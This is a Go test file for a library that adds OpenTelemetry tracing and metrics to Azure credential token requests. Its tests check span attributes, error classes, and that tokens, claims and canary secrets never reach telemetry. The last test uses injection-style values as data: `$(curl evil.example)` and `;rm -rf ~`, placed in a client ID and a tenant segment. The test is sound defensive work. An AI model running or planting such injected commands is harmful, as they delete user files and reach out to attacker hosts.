package credential_test

import (
	"context"
	"encoding/base64"
	"errors"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/Azure/azure-sdk-for-go/sdk/azcore"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/policy"
	"github.com/Azure/azure-sdk-for-go/sdk/azcore/runtime"
	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
	"go.opentelemetry.io/otel/metric"
	metricnoop "go.opentelemetry.io/otel/metric/noop"
	sdktrace "go.opentelemetry.io/otel/sdk/trace"
	"go.opentelemetry.io/otel/trace"
	tracenoop "go.opentelemetry.io/otel/trace/noop"

	"github.com/azauthtrace/azauthtrace/credential"
	"github.com/azauthtrace/azauthtrace/internal/testing/corpus"
	"github.com/azauthtrace/azauthtrace/internal/testing/fakeentra"
	"github.com/azauthtrace/azauthtrace/internal/testing/oteltest"
	"github.com/azauthtrace/azauthtrace/otelx"
)

const armScope = "https://management.azure.com/.default"

func TestGetTokenSuccess(t *testing.T) {
	tel := newTelemetry(t)
	expires := time.Date(2031, 5, 6, 7, 8, 9, 0, time.UTC)
	refresh := expires.Add(-30 * time.Minute)
	want := azcore.AccessToken{Token: "secret-token", ExpiresOn: expires, RefreshOn: refresh}
	var innerSpan trace.SpanContext
	inner := oteltest.FakeCredential(func(ctx context.Context, _ policy.TokenRequestOptions) (azcore.AccessToken, error) {
		innerSpan = trace.SpanContextFromContext(ctx)
		return want, nil
	})
	cred := tel.wrap(inner)

	ctx, parent := tel.TracerProvider.Tracer("test").Start(t.Context(), "parent")
	got, err := cred.GetToken(ctx, policy.TokenRequestOptions{
		Scopes:    []string{armScope, "openid"},
		TenantID:  "aaaabbbb-0000-cccc-1111-dddd2222eeee",
		EnableCAE: true,
		Claims:    `{"access_token":{"nbf":{"essential":true,"value":"1700000000"}}}`,
	})
	parent.End()
	if err != nil || got != want {
		t.Fatalf("GetToken = %v, %v; want %v, nil", got, err, want)
	}

	var span sdktrace.ReadOnlySpan
	for _, s := range tel.Recorder.Ended() {
		if s.Name() == "FakeCredential.GetToken" {
			span = s
		}
	}
	if span == nil {
		t.Fatal("no FakeCredential.GetToken span")
	}
	if span.Parent().SpanID() != parent.SpanContext().SpanID() {
		t.Error("the GetToken span is not a child of the span in the context")
	}
	if innerSpan.SpanID() != span.SpanContext().SpanID() {
		t.Error("the inner credential did not get the GetToken span in its context")
	}
	if span.SpanKind() != trace.SpanKindInternal {
		t.Errorf("span kind %v, want internal", span.SpanKind())
	}
	if span.Status().Code != codes.Unset {
		t.Errorf("status %v, want unset", span.Status())
	}
	if n := len(span.Events()); n != 0 {
		t.Errorf("%d events, want none", n)
	}
	if span.InstrumentationScope().Name != otelx.ScopeName {
		t.Errorf("scope %q, want %q", span.InstrumentationScope().Name, otelx.ScopeName)
	}
	m := oteltest.Attrs(span.Attributes())
	wantAttr(t, m, otelx.CredentialTypeKey, "FakeCredential")
	wantAttr(t, m, otelx.TokenScopesKey, armScope+" openid")
	wantAttr(t, m, otelx.TokenTenantIDKey, "aaaabbbb-0000-cccc-1111-dddd2222eeee")
	wantAttr(t, m, otelx.TokenCAEKey, true)
	wantAttr(t, m, otelx.TokenClaimsKey, true)
	wantAttr(t, m, otelx.TokenExpiresOnKey, "2031-05-06T07:08:09Z")
	wantAttr(t, m, otelx.TokenRefreshOnKey, "2031-05-06T06:38:09Z")
	noAttr(t, m, otelx.ErrorTypeKey, otelx.ClassKey, otelx.HTTPStatusCodeKey)
	tel.AssertNoneOf(t, "secret-token", "nbf", "1700000000")

	if got := tel.outcomes(t); len(got) != 1 || got["FakeCredential/success"] != 1 {
		t.Errorf("outcomes %v, want one success", got)
	}
}

func TestGetTokenMinimalRequest(t *testing.T) {
	tel := newTelemetry(t)
	cred := tel.wrap(returning(azcore.AccessToken{Token: "t", ExpiresOn: time.Now().Add(time.Hour)}, nil))
	if _, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}}); err != nil {
		t.Fatal(err)
	}
	m := oteltest.Attrs(tel.onlySpan(t).Attributes())
	wantAttr(t, m, otelx.TokenScopesKey, armScope)
	wantAttr(t, m, otelx.TokenCAEKey, false)
	wantAttr(t, m, otelx.TokenClaimsKey, false)
	noAttr(t, m, otelx.TokenTenantIDKey, otelx.TokenRefreshOnKey)
	if _, ok := m[otelx.TokenExpiresOnKey]; !ok {
		t.Error("no expiry")
	}
}

func TestGetTokenFailure(t *testing.T) {
	c := corpus.MustGet("aadsts7000215_invalid_client_secret_v2")
	want := &azidentity.AuthenticationFailedError{RawResponse: c.Response()}
	tel := newTelemetry(t)
	cred := tel.wrap(returning(azcore.AccessToken{}, want))

	_, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}})
	if err != want { //nolint:errorlint // the very same value
		t.Fatalf("GetToken returned %#v, want the inner credential's error %#v", err, want)
	}
	var afe *azidentity.AuthenticationFailedError
	if !errors.As(err, &afe) || afe != want {
		t.Error("errors.As does not find the AuthenticationFailedError")
	}

	span := tel.onlySpan(t)
	if span.Status().Code != codes.Error {
		t.Errorf("status %v, want error", span.Status())
	}
	if d := span.Status().Description; d == "" || len(d) > 300 || strings.Contains(d, "\n") || strings.Contains(d, "--------") {
		t.Errorf("status description %q is not short and sanitized", d)
	}
	m := oteltest.Attrs(span.Attributes())
	wantAttr(t, m, otelx.ErrorTypeKey, "*azidentity.AuthenticationFailedError")
	wantAttr(t, m, otelx.ClassKey, "authentication")
	wantAttr(t, m, otelx.AADSTSKey, 7000215)
	wantAttr(t, m, otelx.ErrorCodeKey, "invalid_client")
	wantAttr(t, m, otelx.CorrelationIDKey, "7b12f9bb-2eef-42e3-ad75-eee69ec9088d")
	wantAttr(t, m, otelx.ServiceRequestIDKey, "03da4b8e-5ffe-48ca-9754-aff4276f0100")
	wantAttr(t, m, otelx.HTTPStatusCodeKey, 401)
	noAttr(t, m, otelx.TokenExpiresOnKey, otelx.TokenRefreshOnKey)
	for _, e := range span.Events() {
		if e.Name == "exception" {
			t.Error("the error was recorded as an exception event, which would hold its whole text")
		}
	}
	if got := tel.outcomes(t); len(got) != 1 || got["FakeCredential/authentication"] != 1 {
		t.Errorf("outcomes %v, want one authentication failure", got)
	}
}

// A plain error that nothing can classify still fails the span, and the
// metric counts it under "unknown" unless the classifier names a class.
func TestGetTokenUnclassifiedError(t *testing.T) {
	want := errors.New("proxyconnect tcp: dial tcp 10.0.0.1:3128: connect: connection refused")
	tel := newTelemetry(t)
	cred := tel.wrap(returning(azcore.AccessToken{}, want))
	if _, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}}); err != want { //nolint:errorlint
		t.Fatalf("err = %v, want %v", err, want)
	}
	span := tel.onlySpan(t)
	if span.Status().Code != codes.Error || span.Status().Description == "" {
		t.Errorf("status %v, want error with a description", span.Status())
	}
	wantAttr(t, oteltest.Attrs(span.Attributes()), otelx.ErrorTypeKey, "*errors.errorString")
	var total int64
	for _, n := range tel.outcomes(t) {
		total += n
	}
	if total != 1 {
		t.Errorf("%d requests counted, want 1", total)
	}
}

func TestChainedTokenCredentialFallsThroughWrappedSource(t *testing.T) {
	tel := newTelemetry(t)
	unavailable := azidentity.NewCredentialUnavailableError("AzureCLICredential: executable not found on path")
	source := tel.wrap(returning(azcore.AccessToken{}, unavailable))
	chain, err := azidentity.NewChainedTokenCredential([]azcore.TokenCredential{
		source,
		returning(azcore.AccessToken{Token: "t", ExpiresOn: time.Now().Add(time.Hour)}, nil),
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	tk, err := chain.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}})
	if err != nil || tk.Token != "t" {
		t.Fatalf("the chain did not fall through past the wrapped source: %v, %v", tk, err)
	}
	span := tel.onlySpan(t)
	wantAttr(t, oteltest.Attrs(span.Attributes()), otelx.ClassKey, "credential_unavailable")
	if got := tel.outcomes(t); got["FakeCredential/credential_unavailable"] != 1 {
		t.Errorf("outcomes %v, want one credential_unavailable", got)
	}
}

func TestChainEvents(t *testing.T) {
	tel := newTelemetry(t)
	chain, err := azidentity.NewChainedTokenCredential([]azcore.TokenCredential{
		returning(azcore.AccessToken{}, azidentity.NewCredentialUnavailableError("EnvironmentCredential: missing environment variable AZURE_TENANT_ID")),
		returning(azcore.AccessToken{}, azidentity.NewCredentialUnavailableError("AzureCLICredential: executable not found on path")),
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	cred := tel.wrap(chain)
	_, err = cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}})
	if err == nil {
		t.Fatal("no error")
	}
	span := tel.onlySpan(t)
	if span.Name() != "ChainedTokenCredential.GetToken" {
		t.Errorf("span name %q", span.Name())
	}
	m := oteltest.Attrs(span.Attributes())
	wantAttr(t, m, otelx.CredentialTypeKey, "ChainedTokenCredential")
	wantAttr(t, m, otelx.ClassKey, "credential_unavailable")
	wantAttr(t, m, otelx.ErrorTypeKey, "*azidentity.credentialUnavailableError")
	wantChain(t, span, []string{"EnvironmentCredential", "AzureCLICredential"}, []string{"credential_unavailable", "credential_unavailable"})
	if got := tel.outcomes(t); got["ChainedTokenCredential/credential_unavailable"] != 1 {
		t.Errorf("outcomes %v", got)
	}
}

// wantChain checks the span's chain attempt events: their number and
// order, credential names and classes, and a description for each.
func wantChain(t *testing.T, span sdktrace.ReadOnlySpan, creds, classes []string) {
	t.Helper()
	var gotCreds, gotClasses []string
	for _, e := range span.Events() {
		if e.Name != otelx.ChainAttemptEvent {
			continue
		}
		m := oteltest.Attrs(e.Attributes)
		gotCreds = append(gotCreds, m[otelx.CredentialTypeKey].AsString())
		gotClasses = append(gotClasses, m[otelx.ClassKey].AsString())
		if m[otelx.DescriptionKey].AsString() == "" {
			t.Errorf("chain event %v has no description", e.Attributes)
		}
	}
	if !slices.Equal(gotCreds, creds) || !slices.Equal(gotClasses, classes) {
		t.Errorf("chain events %v %v, want %v %v", gotCreds, gotClasses, creds, classes)
	}
}

type valueCredential struct{}

func (valueCredential) GetToken(context.Context, policy.TokenRequestOptions) (azcore.AccessToken, error) {
	return azcore.AccessToken{}, nil
}

type genericCredential[T any] struct{}

func (*genericCredential[T]) GetToken(context.Context, policy.TokenRequestOptions) (azcore.AccessToken, error) {
	return azcore.AccessToken{}, nil
}

func TestCredentialType(t *testing.T) {
	entra := fakeentra.NewEntra(t, fakeentra.Token("t"))
	secret, err := azidentity.NewClientSecretCredential("aaaabbbb-0000-cccc-1111-dddd2222eeee", "client", "secret", &azidentity.ClientSecretCredentialOptions{
		ClientOptions:            entra.ClientOptions(),
		DisableInstanceDiscovery: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	chain, err := azidentity.NewChainedTokenCredential([]azcore.TokenCredential{secret}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		inner    azcore.TokenCredential
		override string
		want     string
	}{
		{secret, "", "ClientSecretCredential"},
		{chain, "", "ChainedTokenCredential"},
		{valueCredential{}, "", "valueCredential"},
		{&valueCredential{}, "", "valueCredential"},
		{&genericCredential[string]{}, "", "genericCredential"},
		{oteltest.FakeCredential(valueCredential{}.GetToken), "", "FakeCredential"}, // a func type
		{credential.New(secret, nil), "", "ClientSecretCredential"},
		{secret, "Deployment", "Deployment"},
	} {
		tel := newTelemetry(t)
		opts := tel.options()
		opts.CredentialType = tc.override
		if _, err := credential.New(tc.inner, opts).GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}}); err != nil && tc.inner != secret {
			t.Fatal(err)
		}
		span := tel.onlySpan(t)
		if span.Name() != tc.want+".GetToken" {
			t.Errorf("%T: span name %q, want %q", tc.inner, span.Name(), tc.want+".GetToken")
		}
		wantAttr(t, oteltest.Attrs(span.Attributes()), otelx.CredentialTypeKey, tc.want)
	}
}

func TestNilInner(t *testing.T) {
	tel := newTelemetry(t)
	_, err := tel.wrap(nil).GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}})
	if err == nil {
		t.Fatal("no error from a nil credential")
	}
	if span := tel.onlySpan(t); span.Name() != "TokenCredential.GetToken" || span.Status().Code != codes.Error {
		t.Errorf("span %q %v", span.Name(), span.Status())
	}
}

func TestOptionsAttributesCopied(t *testing.T) {
	tel := newTelemetry(t)
	opts := tel.options()
	opts.Attributes = []attribute.KeyValue{attribute.String("deployment", "blue")}
	cred := credential.New(returning(azcore.AccessToken{Token: "t"}, nil), opts)
	opts.Attributes[0] = attribute.String("deployment", "green")
	opts.CredentialType = "Changed"
	if _, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}}); err != nil {
		t.Fatal(err)
	}
	span := tel.onlySpan(t)
	if span.Name() != "FakeCredential.GetToken" {
		t.Errorf("span name %q", span.Name())
	}
	wantAttr(t, oteltest.Attrs(span.Attributes()), "deployment", "blue")
	if got := tel.outcomes(t); got["FakeCredential/success"] != 1 {
		t.Errorf("outcomes %v; extra attributes must not reach metrics", got)
	}
}

func TestNotRecording(t *testing.T) {
	tel := newTelemetry(t, sdktrace.WithSampler(sdktrace.NeverSample()))
	var innerSpan trace.SpanContext
	inner := oteltest.FakeCredential(func(ctx context.Context, _ policy.TokenRequestOptions) (azcore.AccessToken, error) {
		innerSpan = trace.SpanContextFromContext(ctx)
		return azcore.AccessToken{}, azidentity.NewCredentialUnavailableError("ManagedIdentityCredential: managed identity timed out")
	})
	cred := tel.wrap(inner)
	if _, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}}); err == nil {
		t.Fatal("no error")
	}
	if n := len(tel.Recorder.Started()); n != 0 {
		t.Errorf("%d spans recorded, want none", n)
	}
	if !innerSpan.IsValid() || innerSpan.IsSampled() {
		t.Errorf("inner span context %v, want a valid unsampled one", innerSpan)
	}
	if got := tel.outcomes(t); got["FakeCredential/credential_unavailable"] != 1 {
		t.Errorf("outcomes %v: metrics must count requests whose span is not recorded", got)
	}
}

func TestNoopProviders(t *testing.T) {
	want := errors.New("boom")
	cred := credential.New(returning(azcore.AccessToken{}, want), &credential.Options{
		TracerProvider: tracenoop.NewTracerProvider(),
		MeterProvider:  metricnoop.NewMeterProvider(),
	})
	if _, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{}); err != want { //nolint:errorlint
		t.Fatalf("err = %v", err)
	}
}

// panicTracerProvider starts spans that claim to record and panic in every
// method that records something.
type panicTracerProvider struct{ tracenoop.TracerProvider }

func (panicTracerProvider) Tracer(string, ...trace.TracerOption) trace.Tracer { return panicTracer{} }

type panicTracer struct{ tracenoop.Tracer }

func (panicTracer) Start(ctx context.Context, _ string, _ ...trace.SpanStartOption) (context.Context, trace.Span) {
	s := panicSpan{}
	return trace.ContextWithSpan(ctx, s), s
}

type panicSpan struct{ tracenoop.Span }

func (panicSpan) IsRecording() bool                       { return true }
func (panicSpan) SetAttributes(...attribute.KeyValue)     { panic("SetAttributes") }
func (panicSpan) AddEvent(string, ...trace.EventOption)   { panic("AddEvent") }
func (panicSpan) SetStatus(codes.Code, string)            { panic("SetStatus") }
func (panicSpan) End(...trace.SpanEndOption)              { panic("End") }
func (panicSpan) RecordError(error, ...trace.EventOption) { panic("RecordError") }
func (panicSpan) SetName(string)                          { panic("SetName") }
func (panicSpan) AddLink(trace.Link)                      { panic("AddLink") }

// errMeterProvider fails to create any instrument.
type errMeterProvider struct{ metricnoop.MeterProvider }

func (errMeterProvider) Meter(string, ...metric.MeterOption) metric.Meter { return errMeter{} }

type errMeter struct{ metricnoop.Meter }

func (errMeter) Int64Counter(string, ...metric.Int64CounterOption) (metric.Int64Counter, error) {
	return nil, errors.New("no counter")
}

func (errMeter) Float64Histogram(string, ...metric.Float64HistogramOption) (metric.Float64Histogram, error) {
	return nil, errors.New("no histogram")
}

func TestTelemetryFailuresNeverFailTheCall(t *testing.T) {
	want := azcore.AccessToken{Token: "t", ExpiresOn: time.Now().Add(time.Hour)}
	wantErr := azidentity.NewCredentialUnavailableError("AzureCLICredential: executable not found on path")
	for _, tc := range []struct {
		tk  azcore.AccessToken
		err error
	}{{want, nil}, {azcore.AccessToken{}, wantErr}} {
		cred := credential.New(returning(tc.tk, tc.err), &credential.Options{
			TracerProvider: panicTracerProvider{},
			MeterProvider:  errMeterProvider{},
		})
		tk, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}})
		if tk != tc.tk || err != tc.err { //nolint:errorlint
			t.Errorf("GetToken = %v, %v; want %v, %v", tk, err, tc.tk, tc.err)
		}
	}
}

func TestConcurrentUse(t *testing.T) {
	tel := newTelemetry(t)
	unavailable := azidentity.NewCredentialUnavailableError("AzureCLICredential: executable not found on path")
	var calls sync.Map
	inner := oteltest.FakeCredential(func(_ context.Context, opts policy.TokenRequestOptions) (azcore.AccessToken, error) {
		calls.Store(opts.Scopes[0], true)
		if strings.HasSuffix(opts.Scopes[0], "/fail") {
			return azcore.AccessToken{}, unavailable
		}
		return azcore.AccessToken{Token: opts.Scopes[0], ExpiresOn: time.Now().Add(time.Hour)}, nil
	})
	cred := tel.wrap(inner)

	const goroutines, perGoroutine = 32, 50
	var wg sync.WaitGroup
	errs := make(chan string, goroutines*perGoroutine)
	for g := range goroutines {
		wg.Go(func() {
			for i := range perGoroutine {
				scope := "https://g" + string(rune('a'+g%26)) + ".example/"
				if i%5 == 0 {
					scope += "fail"
				}
				tk, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{scope}})
				switch {
				case strings.HasSuffix(scope, "fail") && err != unavailable: //nolint:errorlint
					errs <- "wrong error " + scope
				case !strings.HasSuffix(scope, "fail") && (err != nil || tk.Token != scope):
					errs <- "wrong token " + scope
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
	if n := len(tel.Recorder.Ended()); n != goroutines*perGoroutine {
		t.Errorf("%d spans, want %d", n, goroutines*perGoroutine)
	}
	got := tel.outcomes(t)
	if got["FakeCredential/success"] != goroutines*perGoroutine*4/5 || got["FakeCredential/credential_unavailable"] != goroutines*perGoroutine/5 {
		t.Errorf("outcomes %v", got)
	}
}

// memTransport is a resource service that accepts only the bearer token
// "tok-1".
type memTransport struct{ requests int }

func (m *memTransport) Do(req *http.Request) (*http.Response, error) {
	m.requests++
	status := http.StatusOK
	if req.Header.Get("Authorization") != "Bearer tok-1" {
		status = http.StatusUnauthorized
	}
	return &http.Response{StatusCode: status, Status: http.StatusText(status), Header: http.Header{}, Body: http.NoBody, Request: req}, nil
}

// azcore's BearerTokenPolicy refreshes a token in the last five minutes of
// its life, at most once every 30 seconds, and discards the error of a
// refresh that fails while the old token is still valid. The decorator
// records that failure. The fake clock of synctest lets the test wait out
// the 30 seconds.
func TestBearerTokenPolicyEarlyRefreshFailure(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		tel := newTelemetry(t)
		refreshFailure := &azidentity.AuthenticationFailedError{RawResponse: corpus.MustGet("aadsts90033_temporarily_unavailable").Response()}
		calls := 0
		inner := oteltest.FakeCredential(func(_ context.Context, opts policy.TokenRequestOptions) (azcore.AccessToken, error) {
			calls++
			if !opts.EnableCAE {
				t.Error("the bearer token policy did not enable CAE")
			}
			if calls == 1 {
				return azcore.AccessToken{Token: "tok-1", ExpiresOn: time.Now().Add(4 * time.Minute)}, nil
			}
			return azcore.AccessToken{}, refreshFailure
		})
		transport := &memTransport{}
		pl := runtime.NewPipeline("test", "v0.0.0", runtime.PipelineOptions{
			PerRetry: []policy.Policy{runtime.NewBearerTokenPolicy(tel.wrap(inner), []string{armScope}, nil)},
		}, &policy.ClientOptions{Transport: transport, Retry: policy.RetryOptions{MaxRetries: -1}})
		send := func() int {
			req, err := runtime.NewRequest(t.Context(), http.MethodGet, "https://resource.example/items")
			if err != nil {
				t.Fatal(err)
			}
			resp, err := pl.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			return resp.StatusCode
		}

		if status := send(); status != http.StatusOK {
			t.Fatalf("first request: %d", status)
		}
		time.Sleep(31 * time.Second)
		if status := send(); status != http.StatusOK {
			t.Fatalf("second request: %d; the old token should still be used", status)
		}
		if calls != 2 {
			t.Fatalf("GetToken called %d times, want 2 (the second an early refresh)", calls)
		}

		spans := tel.Recorder.Ended()
		if len(spans) != 2 {
			t.Fatalf("%d spans, want 2", len(spans))
		}
		if spans[0].Status().Code == codes.Error {
			t.Error("the first GetToken span failed")
		}
		failed := spans[1]
		if failed.Status().Code != codes.Error {
			t.Fatalf("the early refresh span has status %v, want error", failed.Status())
		}
		m := oteltest.Attrs(failed.Attributes())
		wantAttr(t, m, otelx.ClassKey, "transient")
		wantAttr(t, m, otelx.AADSTSKey, 90033)
		wantAttr(t, m, otelx.HTTPStatusCodeKey, 503)
		wantAttr(t, m, otelx.TokenCAEKey, true)
		if got := tel.outcomes(t); got["FakeCredential/success"] != 1 || got["FakeCredential/transient"] != 1 {
			t.Errorf("outcomes %v, want one success and one transient failure", got)
		}
	})
}

func TestClaimsNeverRecorded(t *testing.T) {
	claims := `{"c":"k9"}`
	encoded := base64.StdEncoding.EncodeToString([]byte(claims))
	tel := newTelemetry(t)
	inner := returning(azcore.AccessToken{}, azidentity.NewCredentialUnavailableError(
		"AzureCLICredential: requires claims "+claims+"; run az login --claims "+encoded))
	if _, err := tel.wrap(inner).GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}, Claims: claims}); err == nil {
		t.Fatal("no error")
	}
	tel.AssertNoneOf(t, claims, strings.TrimRight(encoded, "="))
	wantAttr(t, oteltest.Attrs(tel.onlySpan(t).Attributes()), otelx.TokenClaimsKey, true)
}

// panicking is an error whose Unwrap and ErrorType panic with a secret.
type panicking struct{}

func (panicking) Error() string     { return "ClientSecretCredential authentication failed" }
func (panicking) Unwrap() error     { panic("panic-canary-7c1 " + canaryPanicSecret) }
func (panicking) ErrorType() string { panic("panic-canary-7c1 " + canaryPanicSecret) }

const canaryPanicSecret = "Hunter2Passw0rd!canary"

// TestPanickingError wraps a credential whose error panics when it is
// unwrapped: GetToken returns the very error, the span ends with status
// Error, and the panic's value reaches no span, event or status.
func TestPanickingError(t *testing.T) {
	tel := newTelemetry(t)
	var e error = panicking{}
	cred := tel.wrap(returning(azcore.AccessToken{}, e))
	_, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}})
	if err != e { //nolint:errorlint
		t.Fatalf("GetToken returned %v, want the credential's own error", err)
	}
	span := tel.onlySpan(t)
	if span.Status().Code != codes.Error {
		t.Errorf("status %+v, want Error", span.Status())
	}
	tel.AssertNoneOf(t, "panic-canary-7c1", canaryPanicSecret)
}

// TestTokenRequestIDsAreCleaned checks the client and tenant IDs the
// decorator reads from a failed token request: values of a form no rule
// names (a shell command, a signed token's parts, a quoted key) in the
// request's client_id and tenant segment reach no attribute; a GUID
// does.
func TestTokenRequestIDsAreCleaned(t *testing.T) {
	const hostileClient = `$(curl evil.example)'; k9Qz"Hostile~client.0x7f`
	const hostileTenant = `t3n4nt;rm -rf ~`
	for _, tc := range []struct {
		client, tenant string
		want           bool
	}{
		{hostileClient, hostileTenant, false},
		{"00001111-aaaa-2222-bbbb-3333cccc4444", "aaaabbbb-0000-cccc-1111-dddd2222eeee", true},
	} {
		tel := newTelemetry(t)
		form := "grant_type=client_credentials&client_secret=s3cret&client_id=" + url.QueryEscape(tc.client)
		req, err := http.NewRequest(http.MethodPost, "https://login.microsoftonline.com/"+url.PathEscape(tc.tenant)+"/oauth2/v2.0/token", strings.NewReader(form))
		if err != nil {
			t.Fatal(err)
		}
		resp := &http.Response{StatusCode: http.StatusUnauthorized, Header: http.Header{}, Body: http.NoBody, Request: req}
		e := &azidentity.AuthenticationFailedError{RawResponse: resp}
		cred := tel.wrap(returning(azcore.AccessToken{}, e))
		if _, err := cred.GetToken(t.Context(), policy.TokenRequestOptions{Scopes: []string{armScope}}); err != e { //nolint:errorlint
			t.Fatalf("GetToken returned %v, want the credential's own error", err)
		}
		attrs := oteltest.Attrs(tel.onlySpan(t).Attributes())
		_, client := attrs[otelx.CredentialClientIDKey]
		_, tenant := attrs[otelx.CredentialTenantIDKey]
		if client != tc.want || tenant != tc.want {
			t.Errorf("client_id recorded %v, tenant recorded %v; want %v", client, tenant, tc.want)
		}
		tel.AssertNoneOf(t, "curl", "Hostile", "rm -rf", "s3cret")
	}
}
